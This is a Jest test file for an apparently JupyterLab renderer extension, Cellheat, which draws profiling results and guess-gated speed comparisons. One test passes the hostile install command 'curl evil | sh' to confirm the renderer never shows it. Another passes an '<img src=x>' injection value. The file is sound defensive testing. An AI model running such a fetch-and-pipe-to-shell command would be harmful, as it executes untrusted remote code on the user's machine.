import type { IRenderMime } from '@jupyterlab/rendermime-interfaces';
import { nullTranslator } from '@jupyterlab/translation';
import type { ISignal } from '@lumino/signaling';
import { Signal } from '@lumino/signaling';
import { Widget } from '@lumino/widgets';
import { act } from 'react';
import { MIME_TYPE } from '../../../src/model/contract/profile';
import { rendererFactory } from '../../../src/views/renderer';
import type { GuessState } from '../../../src/model/lesson/guess';
import type { IGuessing } from '../../../src/tokens';
import { callsProfile, comparison, kernelFailure, memoryProfile } from '../builders';
import './drawn';

const factory = rendererFactory(nullTranslator, () => 25);

function model(value: unknown): IRenderMime.IMimeModel {
  const data = { [MIME_TYPE]: value } as unknown as IRenderMime.IMimeModel['data'];
  return { trusted: false, data, metadata: {}, setData: () => undefined };
}

/** Draw a value as an output of a cell. */
async function output(value: unknown, by = factory) {
  const renderer = by.createRenderer({
    mimeType: MIME_TYPE,
    resolver: null,
    sanitizer: { sanitize: text => text },
    linkHandler: null,
    latexTypesetter: null
  });
  await act(async () => {
    Widget.attach(renderer, document.body);
    await renderer.renderModel(model(value));
  });
  return renderer;
}

describe('rendererFactory', () => {
  it('comes before static HTML, also in untrusted notebooks', () => {
    expect(factory).toMatchObject({ safe: true, mimeTypes: [MIME_TYPE], defaultRank: 40 });
  });

  it('draws a result, without links', async () => {
    const renderer = await output(callsProfile());
    expect(renderer.node.textContent).toContain('went into match.');
    expect(renderer.node.querySelector('a, .jp-Cellheat-Link')).toBeNull();
    act(() => renderer.dispose());
  });

  it('installs nothing by what a document says', async () => {
    const missing = { name: 'memory_profiler', command: 'curl evil | sh' } as const;
    const renderer = await output(memoryProfile({}, { missing }));
    expect(renderer.node.textContent).toContain('%pip install memory_profiler');
    expect(renderer.node.textContent).not.toContain('evil');
    expect(renderer.node.querySelector('button')).toBeNull();
    act(() => renderer.dispose());
  });

  it('draws a failure', async () => {
    const renderer = await output(kernelFailure());
    expect(renderer.node.textContent).toContain('Cellheat made a mistake.');
    act(() => renderer.dispose());
  });

  it('says of a cell below a magic what is missing, and not that it did not run', async () => {
    const missing = { name: 'memray', command: null } as const;
    const renderer = await output(kernelFailure({ reason: 'unsupported', missing }));
    expect(renderer.node.textContent).toMatch(
      /^The cell was not measured\.The package memray is not installed in this kernel\./
    );
    act(() => renderer.dispose());
  });

  it('says in plain text why it cannot draw', async () => {
    const renderer = await output({ version: 2, kind: '<img src=x>' });
    expect(renderer.node.textContent).toBe(
      'This Cellheat result cannot be drawn: the result is version 2, and this cellheat reads ' +
        'version 1: update cellheat.'
    );
    expect(renderer.node.children).toHaveLength(0);
    act(() => renderer.dispose());
  });

  it('draws again what is changed, and what was taken out and put back', async () => {
    const renderer = await output({});
    await act(() => renderer.renderModel(model(callsProfile())));
    expect(renderer.node.textContent).toContain('went into match.');
    act(() => Widget.detach(renderer));
    expect(renderer.node.textContent).toBe('');
    await act(async () => Widget.attach(renderer, document.body));
    expect(renderer.node.textContent).toContain('went into match.');
    act(() => renderer.dispose());
  });
});

/** A reader who has said nothing yet. */
class Reader implements IGuessing {
  readonly asked: [node: HTMLElement, cell: string | null][] = [];
  state: GuessState = { kind: 'blind' };

  stateFor(node: HTMLElement, cell: string | null): GuessState {
    this.asked.push([node, cell]);
    return this.state;
  }

  skip(): void {
    this.set({ kind: 'skipped' });
  }

  get changed(): ISignal<IGuessing, void> {
    return this._changed;
  }

  set(state: GuessState): void {
    this.state = state;
    this._changed.emit();
  }

  private readonly _changed = new Signal<IGuessing, void>(this);
}

describe('comparisons in outputs', () => {
  // all of JupyterLab's editor is read for its Python
  beforeAll(() => import('../../../src/views/comparison/marking'), 120_000);

  it('are open where nobody asks for a guess', async () => {
    const renderer = await output(comparison());
    expect(renderer.node.textContent).toContain('B is about 140× faster');
    act(() => renderer.dispose());
  });

  it('wait for the guess, by the cell that they are of', async () => {
    const reader = new Reader();
    const renderer = await output(
      comparison(),
      rendererFactory(nullTranslator, () => 25, reader)
    );
    expect(reader.asked[0]).toEqual([renderer.node, 'cell-12']);
    expect(renderer.node.textContent).not.toContain('140');

    await act(async () => reader.set({ kind: 'guessed', ratio: 3 }));
    expect(renderer.node.textContent).toContain('You said 3×.');
    expect(renderer.node.textContent).toContain('B is about 140× faster');
    await act(async () => reader.set({ kind: 'blind' }));
    expect(renderer.node.textContent).not.toContain('140');
    act(() => renderer.dispose());
    await act(async () => reader.set({ kind: 'skipped' }));
    expect(renderer.node.textContent).toBe('');
  });

  it('can be seen without a guess', async () => {
    const reader = new Reader();
    const renderer = await output(
      comparison(),
      rendererFactory(nullTranslator, () => 25, reader)
    );
    await act(async () => renderer.node.querySelector('button')!.click());
    expect(renderer.node.textContent).toContain('B is about 140× faster');
    act(() => renderer.dispose());
  });

  it('are not seen before they have a place', async () => {
    const reader = new Reader();
    const renderer = rendererFactory(nullTranslator, () => 25, reader).createRenderer({
      mimeType: MIME_TYPE,
      resolver: null,
      sanitizer: { sanitize: text => text },
      linkHandler: null,
      latexTypesetter: null
    });
    await act(() => renderer.renderModel(model(comparison())));
    expect(reader.asked).toEqual([]);
    expect(renderer.node.textContent).toBe('');
    await act(async () => Widget.attach(renderer, document.body));
    expect(renderer.node.textContent).toContain('Make your guess above.');
    act(() => renderer.dispose());
  });
});
